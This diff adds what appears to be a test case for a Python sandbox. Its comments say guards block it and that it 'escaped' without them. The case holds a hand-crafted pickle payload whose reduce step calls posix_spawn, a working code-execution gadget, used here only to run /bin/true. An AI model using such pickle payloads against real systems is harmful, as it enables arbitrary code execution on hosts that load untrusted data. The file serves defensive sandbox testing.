@@ -1,0 +1,8 @@
+# attack: loader and module tricks
+# stops: guards: __import__ not found
+# os: process/rlimits: Too many open files
+# baseline: -guards => escaped
+# pickle.loads with a __reduce__ that calls posix.posix_spawn
+import pickle
+pid = pickle.loads(b"cposix\nposix_spawn\n(V/bin/true\n(lV/bin/true\na(dtR.")
+print("ESCAPED", pid)
